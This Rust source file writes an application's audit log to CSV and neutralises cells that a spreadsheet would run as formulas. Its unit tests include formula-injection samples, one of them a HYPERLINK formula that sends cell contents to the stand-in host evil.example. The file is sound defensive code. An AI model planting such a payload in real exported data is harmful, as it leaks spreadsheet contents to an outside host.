//! The audit log as CSV, written by the `csv` crate, with every cell that a
//! spreadsheet would run as a formula neutralised: a cell starting with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so a
//! rejection reason such as `=HYPERLINK(…)` opens as the text it is. (The
//! JSON Lines export is left exact: it is for machines and verification.)
//! Times are ISO 8601 in UTC to the millisecond; each row names its
//! review by title, model and execution, beside its id.

use app::ssr::ports::AuditListing;
use chrono::{DateTime, SecondsFormat};
use std::borrow::Cow;

/// The header row's cells.
const HEADER: [&str; 13] = [
    "id",
    "at",
    "actor",
    "actor_subject",
    "actor_role",
    "action",
    "review_id",
    "review_title",
    "model",
    "execution_arn",
    "detail",
    "prev_hash",
    "hash",
];

/// The column of the detail (the one a person writes).
#[cfg(test)]
const DETAIL: usize = 10;

/// Epoch milliseconds as ISO 8601 in UTC (`2026-11-21T08:47:03.120Z`).
fn iso_8601(at_ms: i64) -> String {
    DateTime::from_timestamp_millis(at_ms)
        .map(|at| at.to_rfc3339_opts(SecondsFormat::Millis, true))
        .unwrap_or_else(|| at_ms.to_string())
}

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `text` as a spreadsheet will show it, never run it.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The header row (with its newline).
pub fn header() -> Result<Vec<u8>, csv::Error> {
    write(|writer| writer.write_record(HEADER))
}

/// Rows for `entries` (each with its newline).
pub fn rows(entries: &[AuditListing]) -> Result<Vec<u8>, csv::Error> {
    write(|writer| {
        for AuditListing { entry, review } in entries {
            let c = &entry.content;
            let (id, at) = (entry.id.to_string(), iso_8601(c.at_ms));
            let model = review
                .as_ref()
                .map(|r| format!("{} v{}", r.model_name, r.model_version))
                .unwrap_or_default();
            let cells = [
                id.as_str(),
                at.as_str(),
                &c.actor,
                c.actor_subject.as_deref().unwrap_or_default(),
                c.actor_role.as_deref().unwrap_or_default(),
                &c.action,
                c.review_id.as_deref().unwrap_or_default(),
                review
                    .as_ref()
                    .map(|r| r.title.as_str())
                    .unwrap_or_default(),
                &model,
                review
                    .as_ref()
                    .map(|r| r.execution_arn.as_str())
                    .unwrap_or_default(),
                c.detail.as_deref().unwrap_or_default(),
                &entry.prev_hash,
                &entry.hash,
            ];
            writer.write_record(cells.map(neutralise).iter().map(|cell| cell.as_bytes()))?;
        }
        Ok(())
    })
}

fn write(
    fill: impl FnOnce(&mut csv::Writer<Vec<u8>>) -> Result<(), csv::Error>,
) -> Result<Vec<u8>, csv::Error> {
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::Any(b'\n'))
        .from_writer(Vec::new());
    fill(&mut writer)?;
    writer.into_inner().map_err(|e| e.into_error().into())
}

#[cfg(test)]
mod tests {
    use super::*;
    use app::domain::audit::{AuditContent, StoredEntry};
    use app::domain::audit_action::Action;
    use app::ssr::ports::ReviewLabel;

    fn entries(details: &[&str]) -> Vec<AuditListing> {
        details
            .iter()
            .enumerate()
            .map(|(i, detail)| AuditListing {
                entry: StoredEntry {
                    id: i as i64 + 1,
                    content: AuditContent::system(
                        i as i64,
                        Action::Rejected,
                        Some("r1"),
                        Some((*detail).to_owned()),
                    ),
                    prev_hash: "-0".into(),
                    hash: "+1".into(),
                },
                review: Some(ReviewLabel {
                    title: "=Promote churn-model v42".into(),
                    model_name: "churn-model".into(),
                    model_version: "42".into(),
                    execution_arn: "arn:aws:states:eu-west-1:1:execution:m:e".into(),
                }),
            })
            .collect()
    }

    fn read_back(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn formula_cells_read_back_as_text() {
        let attacks = [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A9)",
            "\tindented =1",
            "\r=1",
        ];
        let mut file = header().unwrap();
        file.extend(rows(&entries(&attacks)).unwrap());
        let table = read_back(&file);
        assert_eq!(table[0], HEADER);
        assert_eq!(table.len(), attacks.len() + 1);
        for (row, attack) in table[1..].iter().zip(attacks) {
            assert_eq!(row.len(), HEADER.len());
            assert_eq!(
                row[DETAIL],
                format!("'{attack}"),
                "the text is kept, neutralised"
            );
            for cell in row {
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would run");
            }
        }
    }

    #[test]
    fn ordinary_cells_are_unchanged_and_quoted_when_needed() {
        let detail = "a, \"quoted\" detail\nover two lines";
        let table = read_back(&rows(&entries(&[detail, "plain 3-2"])).unwrap());
        assert_eq!(table[0][DETAIL], detail);
        assert_eq!(table[1][DETAIL], "plain 3-2");
        assert_eq!(table[0][5], "rejected");
    }

    #[test]
    fn times_are_iso_8601_and_reviews_are_named() {
        let table = read_back(&rows(&entries(&["fine"])).unwrap());
        let row = &table[0];
        assert_eq!(row[1], "1970-01-01T00:00:00.000Z");
        assert_eq!(
            row[7], "'=Promote churn-model v42",
            "a title is neutralised too"
        );
        assert_eq!(row[8], "churn-model v42");
        assert_eq!(row[9], "arn:aws:states:eu-west-1:1:execution:m:e");
        assert_eq!(iso_8601(1_764_000_000_123), "2025-11-24T16:00:00.123Z");
        let mut unlabelled = entries(&["x"]);
        unlabelled[0].review = None;
        let table = read_back(&rows(&unlabelled).unwrap());
        assert_eq!(table[0][7..10], ["", "", ""]);
    }

    #[test]
    fn only_a_leading_formula_character_counts() {
        assert_eq!(neutralise("a=b"), "a=b");
        assert_eq!(neutralise("=b"), "'=b");
        assert_eq!(neutralise(""), "");
    }
}
